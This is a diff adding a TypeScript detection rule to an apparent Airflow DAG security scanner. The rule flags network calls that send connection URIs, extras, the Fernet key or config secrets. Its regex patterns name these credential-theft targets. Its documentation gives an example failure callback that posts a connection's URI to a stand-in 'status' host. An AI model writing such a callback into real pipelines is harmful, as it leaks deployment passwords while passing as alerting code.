@@ -1,0 +1,63 @@
+import type { SyntaxNode } from 'tree-sitter';
+import { defineRule } from '../../src/engine/rule';
+import { callArgs } from '../../src/engine/python';
+import { factsOf } from './_facts';
+import { targetText } from './_write-target';
+
+/**
+ * What only a credential dump holds: a connection's whole URI (login, password, host, extras in one string), its
+ * whole `extra`, the metadata DB URL and the keys of Airflow's configuration, a connection object serialized whole.
+ */
+const DUMPS: [RegExp, string][] = [
+  [/\.get_uri\s*\(\s*\)/, "a connection's URI with its password"],
+  [/\.extra_dejson\b(?!\s*(?:\[|\.get\b))|\.extra\b(?!\s*(?:\[|\.get\b|_dejson))/, "a connection's whole `extra` (keys, tokens)"],
+  [/\bsql_alchemy_conn\b|\bSQL_ALCHEMY_CONN\b/, "the metadata database's URL with its password"],
+  [/\bfernet_key\b|\bFERNET_KEY\b/, 'the Fernet key that decrypts every stored connection'],
+  [/\bconf\.as_dict\s*\(|\bconf\.getsection\s*\(\s*["'](?:core|database|webserver|api)["']/, "Airflow's configuration with its secrets"],
+  [/\b(?:vars\s*\(|\.__dict__\b|\.to_dict\s*\(|\.to_json\s*\()[^\n]{0,80}\b(?:conn|connection)\w*\b|\b(?:conn|connection)\w*\.(?:__dict__|to_dict\s*\(|to_json\s*\()/, 'a connection object serialized whole'],
+];
+/** A connection's password together with where it logs in: the credentials, not a token exchange. */
+const PASSWORD = /\.(?:password|get_password\s*\(\s*\))/;
+const LOGIN_PARTS = /\.(?:login|host)\b/;
+/** Arguments that authenticate the request itself: a connection's own credentials belong there. */
+const AUTH_ARGS = new Set(['auth', 'headers', 'cert', 'verify', 'timeout', 'proxies']);
+
+export default defineRule({
+  meta: {
+    id: 'DG618',
+    name: 'credentials-sent-out',
+    category: 'malicious',
+    severity: 'critical',
+    message: '`{fn}` sends {what} over the network',
+    docs: {
+      what:
+        'Finds network calls (`requests`/`httpx` verbs, `urllib.request.urlopen`, `http.client`, sockets, `smtplib`…) whose body, parameters or URL carry what only a credential dump holds — a connection\'s URI (`conn.get_uri()`: login, password, host and extras in one string), its whole `extra`/`extra_dejson`, a connection object serialized whole (`vars(conn)`, `conn.to_dict()`), the metadata database URL (`sql_alchemy_conn`), the Fernet key, `conf.as_dict()` — or a connection\'s password sent together with its login or host — wherever the call is: in a task, an `on_failure_callback`, a listener, a helper. Values are followed through names, two steps back (`payload = {"uri": c.get_uri()}; requests.post(url, json=payload)`). A connection\'s credentials given to `auth=` or `headers=` authenticate the request and are not reported, nor is one password alone (a token exchange sends `client_secret` to the provider).',
+      why:
+        'Callbacks and tasks run with every connection and Variable the deployment holds. Exfiltration does not need to happen at parse time: a failure callback that posts `get_uri()` of the warehouse connection to a "status page" leaks the password on the first failed task, and looks like alerting code in review. There is no reason for a DAG to send a connection\'s URI, its extras or Airflow\'s keys anywhere.',
+      example:
+        '```python\ndef _notify(context):\n    c = BaseHook.get_connection("warehouse")\n    requests.post("https://status.example/fail", json={"dag": context["dag"].dag_id, "uri": c.get_uri()}, timeout=5)\n```',
+      useInstead: 'Send identifiers, never credentials: the DAG id, the task id, the run id and a link to the log.',
+    },
+  },
+  keywords: ['get_uri', 'extra', 'sql_alchemy_conn', 'fernet_key', 'as_dict', 'getsection', 'to_dict', 'to_json', '__dict__', 'vars', 'password'],
+  onFile(ctx) {
+    for (const fact of factsOf(ctx).calls) {
+      if (!fact.kinds.has('network')) continue;
+      const text = sentText(fact.call);
+      if (!text) continue;
+      let what = DUMPS.find(([re]) => re.test(text))?.[1];
+      if (!what && PASSWORD.test(text) && LOGIN_PARTS.test(text) && /get_connection|Connection\s*\(/.test(text)) what = "a connection's login and password";
+      if (!what) continue;
+      const fn = (fact.fn ?? fact.call.childForFieldName('function')!.text).replace(/^builtins\./, '');
+      ctx.report(fact.call, { fn, what });
+    }
+  },
+});
+
+/** The text of what a call sends (its arguments but those that authenticate it), with what their names hold. */
+function sentText(call: SyntaxNode): string {
+  const args = callArgs(call);
+  const sent: SyntaxNode[] = [...args.positional];
+  for (const [k, v] of args.keywords) if (!AUTH_ARGS.has(k)) sent.push(v);
+  return sent.map((a) => targetText(a)).join('\n');
+}
